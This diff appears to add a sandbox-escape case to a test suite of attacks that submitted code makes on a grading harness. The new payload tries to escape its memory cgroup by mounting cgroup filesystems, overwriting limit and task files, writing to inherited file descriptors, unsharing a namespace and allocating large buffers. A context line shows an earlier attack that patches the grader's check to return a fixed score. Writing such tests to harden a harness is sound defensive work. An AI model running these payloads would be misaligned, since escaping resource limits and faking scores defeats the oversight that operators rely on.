@@ -226,3 +226,25 @@ def loaded_under_other_names(hand_in):
         "    sys.modules[name].check = lambda *a, **k: 3.0\n"
         "sys.meta_path.insert(0, type('All', (), {'find_spec': lambda *a: None})())"
     )
+
+
+@attack(
+    "out of the group that limits its memory: by its files, by a mount, by what may still be open",
+    on_stock=OWN,
+)
+def out_of_its_group(hand_in):
+    hand_in.top(
+        "import ctypes, glob, os\n"
+        "os.makedirs('/tmp/c', exist_ok=True)\n"
+        "for kind, how in ((b'cgroup', b'memory'), (b'cgroup', b''), (b'cgroup2', b'')):\n"
+        "    ctypes.CDLL(None).mount(kind, b'/tmp/c', kind, 0, how)\n"
+        "for name in ('tasks', 'cgroup.procs', 'memory.limit_in_bytes', 'memory.max'):\n"
+        "    for path in glob.glob(f'/sys/fs/cgroup/**/{name}', recursive=True) + "
+        "glob.glob(f'/tmp/c/**/{name}', recursive=True):\n"
+        "        try:\n            open(path, 'w').write('-1' if 'limit' in name else '0')\n"
+        "        except OSError: pass\n"
+        "for number in range(4, 1024):\n"
+        "    try:\n        os.write(number, b'0')\n    except OSError: pass\n"
+        "ctypes.CDLL(None).unshare(0x0200_0000)\n"
+        "kept = [bytearray(900_000_000), bytearray(900_000_000)]"
+    )
